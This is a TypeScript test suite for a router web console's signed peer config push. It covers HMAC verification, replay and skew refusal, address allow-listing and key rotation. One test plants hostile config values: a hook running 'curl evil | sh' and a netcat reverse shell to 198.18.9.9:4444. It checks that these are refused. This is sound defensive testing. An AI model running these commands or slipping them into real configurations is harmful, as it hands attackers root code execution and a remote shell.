import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadConfig } from '../../../src/config';
import { keygen } from '../../../src/heartbeat/keys';
import { readPushKeys } from '../../../src/web/peer-push';
import {
  NonceCache,
  PUSH_CONTENT_TYPE,
  PUSH_PATH,
  type PushPayload,
  pushKey,
  pushToPeer,
  signPush,
  verifyPush,
} from '../../../src/web/peer';
import {
  buildWeb,
  PUBLIC_ROUTES,
  startWeb,
  type Web,
  type WebOptions,
  WebOptionsError,
  type WebServer,
} from '../../../src/web/server';
import { call, type Env, login, makeEnv, TEST_SCRYPT, TLS } from './fixture';

/** POSTs a raw push over https, trusting the test certificate. */
async function rawPush(url: string, headers: Record<string, string>, body: string) {
  const { request } = await import('node:https');
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = request(
      `${url}${PUSH_PATH}`,
      { method: 'POST', headers: { 'content-type': PUSH_CONTENT_TYPE, ...headers }, ca: TLS.cert },
      (res) => {
        let b = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => {
          b += c;
        });
        res.on('end', () => resolve({ status: res.statusCode!, body: b }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

describe('web console: push to the peer router', () => {
  let keyDir: string;
  let pushKeyFile: string;
  let a: Env;
  let b: Env;
  let bServer: WebServer;
  let aWeb: Web;
  let key: Buffer;
  const text = (serial: number, edit: (t: string) => string = (t) => t) =>
    edit(readFileSync('etc/lvs.yaml', 'utf8')).replace('serial_no: 1', `serial_no: ${serial}`);

  /** The receiver on https://127.0.0.1:PORT accepting pushes from 127.0.0.1. */
  let running = false;
  async function startReceiver(extra: Partial<WebOptions> = {}) {
    if (running) await bServer.close();
    bServer = await startWeb({
      runDir: b.runDir,
      passwordFile: b.passwordFile,
      configPath: b.configPath,
      log: b.log,
      scrypt: TEST_SCRYPT,
      port: 0,
      tls: TLS,
      acceptPeerPush: true,
      pushKeyFiles: [pushKeyFile],
      peerAddresses: ['127.0.0.1'],
      ...extra,
    });
    running = true;
  }

  beforeEach(async () => {
    keyDir = mkdtempSync(join(tmpdir(), 'pulse-web-key-'));
    pushKeyFile = join(keyDir, 'push.key');
    keygen(pushKeyFile);
    key = readPushKeys([pushKeyFile])[0]!;
    b = await makeEnv({ passConfigPath: true });
    await b.web.close();
    await startReceiver();
    a = await makeEnv({ passConfigPath: true });
    await a.web.close();
    aWeb = await buildWeb({
      runDir: a.runDir,
      passwordFile: a.passwordFile,
      configPath: a.configPath,
      log: a.log,
      scrypt: TEST_SCRYPT,
      pushKeyFiles: [pushKeyFile],
      peer: { url: bServer.url, ca: TLS.cert },
    });
  });
  afterEach(async () => {
    await aWeb.close();
    await bServer.close();
    running = false;
    await a.cleanup();
    await b.cleanup();
    rmSync(keyDir, { recursive: true, force: true });
  });

  it('pushes a saved edit to the peer over https, which validates, saves (keeping .prev), reloads and logs the changed keys', async () => {
    assert.match(bServer.url, /^https:\/\/127\.0\.0\.1:\d+$/);
    const c = await login(aWeb);
    const cfg = (await call(aWeb, c, 'GET', '/api/config')).json();
    const r = await call(aWeb, c, 'PUT', '/api/config/virtual/http/real/rs1', {
      version: cfg.version,
      fields: { weight: '4' },
    });
    assert.equal(r.statusCode, 200, r.body);
    assert.equal(r.json().peer.ok, true, JSON.stringify(r.json().peer));
    assert.deepEqual(r.json().peer.reload, { ok: true, changes: {} });
    assert.equal(
      readFileSync(b.configPath, 'utf8'),
      readFileSync(a.configPath, 'utf8'),
      'same file on both routers',
    );
    assert.equal(loadConfig(b.configPath).model.virtualServers[0]!.realServers[0]!.weight, 4);
    assert.ok(readFileSync(`${b.configPath}.prev`, 'utf8').includes('serial_no: 1'));
    assert.deepEqual(b.daemon.commands, [{ cmd: 'reload' }]);
    const got = b.log.records.find((x) => x.msg === 'web: config received from peer')!;
    assert.equal(got.fields.to, 2);
    assert.deepEqual(JSON.parse(String(got.fields.changed)), [
      'serial_no',
      'virtual_servers[http].real_servers[rs1].weight',
    ]);
    assert.ok(a.log.records.some((x) => x.msg === 'web: config pushed to peer'));
  });

  it('refuses unsigned, wrongly signed, skewed, replayed and older pushes', async () => {
    const before = readFileSync(b.configPath, 'utf8');
    const payload = { format: 'yaml' as const, serial: 7, text: text(7) };
    const peer = { url: bServer.url, ca: TLS.cert };

    const unsigned = await rawPush(bServer.url, {}, JSON.stringify(payload));
    assert.equal(unsigned.status, 401);
    const wrong = await pushToPeer(peer, pushKey(Buffer.alloc(32, 7)), payload);
    assert.equal(wrong.status, 401);
    assert.match(JSON.stringify(wrong.body), /bad signature/);
    const skewed = await pushToPeer(peer, key, payload, Date.now() - 120_000);
    assert.equal(skewed.status, 401);
    const older = await pushToPeer(peer, key, { ...payload, serial: 1, text: before });
    assert.equal(older.status, 409);
    assert.equal(readFileSync(b.configPath, 'utf8'), before, 'nothing applied');
    assert.deepEqual(b.daemon.commands, []);

    // A captured push replayed verbatim is refused.
    const body = JSON.stringify(payload);
    const time = String(Date.now());
    const nonce = 'n0nce-n0nce-n0nce-1';
    const headers = {
      'x-pulse-time': time,
      'x-pulse-nonce': nonce,
      'x-pulse-signature': signPush(key, time, nonce, body),
    };
    const first = await rawPush(bServer.url, headers, body);
    assert.equal(first.status, 200, first.body);
    const replay = await rawPush(bServer.url, headers, body);
    assert.equal(replay.status, 401);
    assert.match(replay.body, /replayed nonce/);
    assert.ok(b.log.records.filter((x) => x.msg === 'web: peer push refused').length >= 4);
  });

  it('checks the HMAC before loading anything: an unsigned push to a router whose file does not load gets 401', async () => {
    writeFileSync(b.configPath, 'virtual_servers: [unclosed\n');
    const unsigned = await rawPush(bServer.url, {}, '{"format":"yaml","serial":9,"text":""}');
    assert.equal(unsigned.status, 401, unsigned.body);
    const garbage = await rawPush(
      bServer.url,
      {
        'x-pulse-time': String(Date.now()),
        'x-pulse-nonce': 'abcdefghijklmnopq',
        'x-pulse-signature': '0'.repeat(64),
      },
      'x'.repeat(100_000),
    );
    assert.equal(garbage.status, 401);
  });

  it('accepts pushes from the peer router’s address only (refused before the HMAC is even checked)', async () => {
    await startReceiver({ peerAddresses: ['198.18.0.12'] });
    const payload: PushPayload = { format: 'yaml', serial: 7, text: text(7) };
    const r = await pushToPeer({ url: bServer.url, ca: TLS.cert }, key, payload);
    assert.equal(r.status, 403);
    assert.match(JSON.stringify(r.body), /from the peer router only \(198\.18\.0\.12\)/);
    assert.deepEqual(b.daemon.commands, []);
  });

  it('refuses a push that changes a program-naming or security-sensitive key, naming the keys; --accept-program-changes allows it', async () => {
    const before = readFileSync(b.configPath, 'utf8');
    const evil = text(5, (t) =>
      t
        .replace('legacy:\n', 'hooks:\n  active_cmd: /bin/sh -c "curl evil | sh"\nlegacy:\n')
        .replace('  port: 539\n', '  port: 539\n  piranha_compat: true\n')
        .replace(
          '      rise: 2\n',
          '      rise: 2\n      send_program: /usr/bin/nc -e /bin/sh 198.18.9.9 4444\n',
        ),
    );
    const peer = { url: bServer.url, ca: TLS.cert };
    const r = await pushToPeer(peer, key, { format: 'yaml', serial: 5, text: evil });
    assert.equal(r.status, 403, JSON.stringify(r.body));
    const msgs = (r.body as { errors: { message: string }[] }).errors.map((e) => e.message).join('\n');
    assert.match(msgs, /hooks\.active_cmd: names a program root runs/);
    assert.match(msgs, /virtual_servers\[http\]\.monitor\.send_program: names a program root runs/);
    assert.match(msgs, /heartbeat\.piranha_compat: is security-sensitive/);
    assert.equal(readFileSync(b.configPath, 'utf8'), before, 'nothing saved');
    assert.deepEqual(b.daemon.commands, [], 'no reload');
    const refused = b.log.records.find((x) => x.msg === 'web: peer push refused' && x.fields.changed)!;
    const changed = JSON.parse(String(refused.fields.changed)) as string[];
    assert.ok(
      changed.includes('hooks.active_cmd') && changed.includes('heartbeat.piranha_compat'),
      String(changed),
    );
    assert.doesNotMatch(JSON.stringify(refused.fields), /curl evil/, 'names, not values');

    await startReceiver({ acceptProgramChanges: true });
    const ok = await pushToPeer({ url: bServer.url, ca: TLS.cert }, key, {
      format: 'yaml',
      serial: 5,
      text: evil,
    });
    assert.equal(ok.status, 200, JSON.stringify(ok.body));
    assert.equal(
      loadConfig(b.configPath, readFileSync(b.configPath, 'utf8')).model.hooks.activeCmd,
      '/bin/sh -c "curl evil | sh"',
    );
  });

  it('has no push route unless --accept-peer-push (the path then needs a session like any other)', async () => {
    const res = await aWeb.app.inject({
      method: 'POST',
      url: PUSH_PATH,
      headers: { 'content-type': PUSH_CONTENT_TYPE },
      payload: '{}',
    });
    assert.equal(res.statusCode, 401);
    assert.equal(aWeb.routes.includes(`POST ${PUSH_PATH}`), false);
  });

  it('with --accept-peer-push every other route still needs a session, and the push needs its HMAC', async () => {
    const paths = new Set(bServer.routes.map((r) => r.split(' ')[1]!.replace(/:(\w+)/g, 'http')));
    assert.ok(paths.has(PUSH_PATH));
    for (const url of paths)
      for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH'] as const) {
        if (PUBLIC_ROUTES.has(`${method} ${url}`)) continue;
        const res = await bServer.app.inject({
          method,
          url,
          remoteAddress: '127.0.0.1',
          headers: { 'content-type': url === PUSH_PATH ? PUSH_CONTENT_TYPE : 'application/json' },
          ...(method === 'GET' || method === 'HEAD'
            ? {}
            : { payload: '{"format":"yaml","serial":99,"text":""}' }),
        });
        assert.equal(res.statusCode, 401, `${method} ${url}`);
      }
    assert.deepEqual(b.daemon.commands, []);
  });

  it('refuses to start a push without https, a push key, a strong key or the peer address', async () => {
    const base = { runDir: b.runDir, passwordFile: b.passwordFile, configPath: b.configPath, log: b.log };
    await assert.rejects(
      buildWeb({ ...base, acceptPeerPush: true, pushKeyFiles: [pushKeyFile], peerAddresses: ['127.0.0.1'] }),
      (e: Error) => e instanceof WebOptionsError && /needs --tls-cert/.test(e.message),
    );
    await assert.rejects(
      buildWeb({ ...base, tls: TLS, acceptPeerPush: true, peerAddresses: ['127.0.0.1'] }),
      /needs --push-key/,
    );
    await assert.rejects(
      buildWeb({ ...base, tls: TLS, acceptPeerPush: true, pushKeyFiles: [pushKeyFile] }),
      /needs the peer router’s address/,
    );
    await assert.rejects(
      buildWeb({ ...base, pushKeyFiles: [pushKeyFile], peer: { url: 'http://198.18.0.12:3636' } }),
      /push needs https/,
    );
    const weak = join(keyDir, 'weak.key');
    writeFileSync(weak, 'our shared passphrase for the routers\n', { mode: 0o600 });
    await assert.rejects(
      buildWeb({ ...base, pushKeyFiles: [weak], peer: { url: 'https://198.18.0.12:3636' } }),
      /weak\.key: heartbeat key is not hex/,
    );
  });

  it('verifyPush accepts the previous key during a rotation', () => {
    const k1 = pushKey(Buffer.alloc(32, 1));
    const k2 = pushKey(Buffer.alloc(32, 2));
    const nonces = new NonceCache(() => 0);
    const sig = signPush(k1, '1000', 'abcdefghijklmnop', 'x');
    const h = { 'x-pulse-time': '1000', 'x-pulse-nonce': 'abcdefghijklmnop', 'x-pulse-signature': sig };
    assert.deepEqual(verifyPush([k2], h, 'x', 1000, nonces), {
      ok: false,
      reason: 'bad signature (different heartbeat key?)',
    });
    assert.deepEqual(verifyPush([k2, k1], h, 'x', 1000, nonces), { ok: true });
    assert.deepEqual(verifyPush([k2, k1], h, 'y', 1000, new NonceCache(() => 0)).ok, false, 'body is signed');
  });
});
